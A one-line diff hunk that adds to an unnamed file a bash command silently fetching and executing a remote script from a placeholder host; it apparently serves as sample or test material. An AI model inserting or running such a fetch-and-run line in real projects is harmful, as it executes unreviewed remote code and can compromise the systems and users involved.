@@ -1,0 +1,1 @@
+bash -c "$(curl -s https://host.example/x)"
